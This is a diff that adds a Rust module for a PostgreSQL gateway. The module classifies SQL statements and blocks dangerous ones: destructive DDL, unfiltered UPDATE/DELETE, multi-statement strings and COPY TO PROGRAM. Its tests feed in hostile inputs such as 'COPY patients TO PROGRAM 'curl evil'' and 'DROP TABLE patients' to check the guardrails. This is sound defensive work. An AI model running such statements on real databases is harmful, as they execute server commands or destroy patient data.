@@ -1,0 +1,156 @@
+//! SQL classification for the PostgreSQL driver, on `sqlparser` (PostgreSQL dialect): each
+//! statement's kind, the tables it names, whether an UPDATE/DELETE has a WHERE, whether a COPY
+//! runs a program — and the built-in guardrails that refuse the dangerous ones.
+
+use std::ops::ControlFlow;
+
+use sqlparser::ast::{CopySource, CopyTarget, Statement, visit_relations};
+use sqlparser::dialect::PostgreSqlDialect;
+use sqlparser::parser::Parser;
+
+use super::{Request, SqlKind};
+
+/// One classified statement.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SqlStatement {
+    /// Its kind.
+    pub kind: SqlKind,
+    /// Tables it reads or writes, lower-case.
+    pub tables: Vec<String>,
+    /// UPDATE/DELETE: whether it has a WHERE clause.
+    pub has_where: bool,
+    /// COPY … TO/FROM PROGRAM.
+    pub copy_program: bool,
+    /// DROP, TRUNCATE or ALTER.
+    pub destructive_ddl: bool,
+}
+
+impl SqlStatement {
+    /// The request the filter chain decides.
+    pub fn request(&self) -> Request {
+        Request::Sql { kind: self.kind, tables: self.tables.clone(), columns: None }
+    }
+}
+
+fn kind_of(s: &Statement) -> SqlKind {
+    match s {
+        Statement::Query(_) | Statement::Explain { .. } | Statement::ShowVariable { .. } => SqlKind::Select,
+        Statement::Insert(_) => SqlKind::Insert,
+        Statement::Update(_) => SqlKind::Update,
+        Statement::Delete(_) => SqlKind::Delete,
+        Statement::Merge(_) => SqlKind::Merge,
+        Statement::CreateTable(_)
+        | Statement::CreateView(_)
+        | Statement::CreateIndex(_)
+        | Statement::CreateSchema { .. }
+        | Statement::AlterTable(_)
+        | Statement::Drop { .. }
+        | Statement::Truncate { .. } => SqlKind::Ddl,
+        Statement::Grant(_) | Statement::Revoke(_) | Statement::CreateRole(_) | Statement::AlterRole { .. } => {
+            SqlKind::Dcl
+        }
+        Statement::Copy { .. } => SqlKind::Copy,
+        Statement::Call(_) => SqlKind::Call,
+        Statement::Set(_) => SqlKind::Set,
+        Statement::StartTransaction { .. } | Statement::Commit { .. } | Statement::Rollback { .. } => {
+            SqlKind::Transaction
+        }
+        _ => SqlKind::Other,
+    }
+}
+
+/// Classifies every statement of `sql`; an error says why it does not parse.
+pub fn classify(sql: &str) -> Result<Vec<SqlStatement>, String> {
+    let statements = Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|e| e.to_string())?;
+    Ok(statements
+        .iter()
+        .map(|s| {
+            let mut tables = Vec::new();
+            let _ = visit_relations(s, |name| {
+                let t = name.to_string().to_lowercase();
+                if !tables.contains(&t) {
+                    tables.push(t);
+                }
+                ControlFlow::<()>::Continue(())
+            });
+            let has_where = match s {
+                Statement::Update(u) => u.selection.is_some(),
+                Statement::Delete(d) => d.selection.is_some(),
+                _ => true,
+            };
+            let copy_program = matches!(s, Statement::Copy { target: CopyTarget::Program { .. }, .. })
+                || matches!(
+                    s,
+                    Statement::Copy { source: CopySource::Query(_), target: CopyTarget::Program { .. }, .. }
+                );
+            let destructive_ddl =
+                matches!(s, Statement::Drop { .. } | Statement::Truncate { .. } | Statement::AlterTable(_));
+            SqlStatement { kind: kind_of(s), tables, has_where, copy_program, destructive_ddl }
+        })
+        .collect())
+}
+
+/// The built-in guardrail a statement list breaks, as `(rule id, reason)`; `None` if it passes.
+/// Roles marked trusted on the route skip them.
+pub fn guardrail(statements: &Result<Vec<SqlStatement>, String>) -> Option<(&'static str, String)> {
+    let statements = match statements {
+        Err(e) => {
+            return Some((
+                "guard:unparsed",
+                format!(
+                    "the statement does not parse, and only trusted roles may send SQL the gateway cannot read: {e}"
+                ),
+            ));
+        }
+        Ok(s) => s,
+    };
+    if statements.len() > 1 {
+        return Some((
+            "guard:multi_statement",
+            format!("{} statements in one query string; send one at a time", statements.len()),
+        ));
+    }
+    for s in statements {
+        if s.destructive_ddl {
+            return Some(("guard:ddl", "DROP, TRUNCATE and ALTER are blocked for this role".into()));
+        }
+        if matches!(s.kind, SqlKind::Update | SqlKind::Delete) && !s.has_where {
+            return Some(("guard:no_where", "UPDATE and DELETE need a WHERE clause".into()));
+        }
+        if s.copy_program {
+            return Some((
+                "guard:copy_program",
+                "COPY … TO/FROM PROGRAM runs a program on the server and is blocked".into(),
+            ));
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn kinds_tables_and_guardrails() {
+        let s = classify("SELECT p.name FROM public.patients p JOIN visits v ON v.pid = p.id").unwrap();
+        assert_eq!(s[0].kind, SqlKind::Select);
+        assert_eq!(s[0].tables, ["public.patients", "visits"]);
+        assert_eq!(guardrail(&Ok(s)), None);
+        assert_eq!(guardrail(&classify("DELETE FROM patients")).unwrap().0, "guard:no_where");
+        assert_eq!(guardrail(&classify("DELETE FROM patients WHERE id = 1")), None);
+        assert_eq!(guardrail(&classify("UPDATE patients SET name = 'x'")).unwrap().0, "guard:no_where");
+        assert_eq!(guardrail(&classify("DROP TABLE patients")).unwrap().0, "guard:ddl");
+        assert_eq!(guardrail(&classify("TRUNCATE patients")).unwrap().0, "guard:ddl");
+        assert_eq!(guardrail(&classify("ALTER TABLE patients ADD COLUMN x int")).unwrap().0, "guard:ddl");
+        assert_eq!(guardrail(&classify("COPY patients TO PROGRAM 'curl evil'")).unwrap().0, "guard:copy_program");
+        assert_eq!(guardrail(&classify("SELECT 1; SELECT 2")).unwrap().0, "guard:multi_statement");
+        assert_eq!(guardrail(&classify("SELEC 1")).unwrap().0, "guard:unparsed");
+        assert_eq!(classify("INSERT INTO t VALUES (1)").unwrap()[0].kind, SqlKind::Insert);
+        assert_eq!(classify("BEGIN").unwrap()[0].kind, SqlKind::Transaction);
+        assert_eq!(classify("CREATE TABLE t (x int)").unwrap()[0].kind, SqlKind::Ddl);
+        assert_eq!(classify("GRANT SELECT ON t TO bob").unwrap()[0].kind, SqlKind::Dcl);
+        assert_eq!(classify("COPY t FROM STDIN").unwrap()[0].kind, SqlKind::Copy);
+        assert_eq!(classify("SET search_path = x").unwrap()[0].kind, SqlKind::Set);
+    }
+}
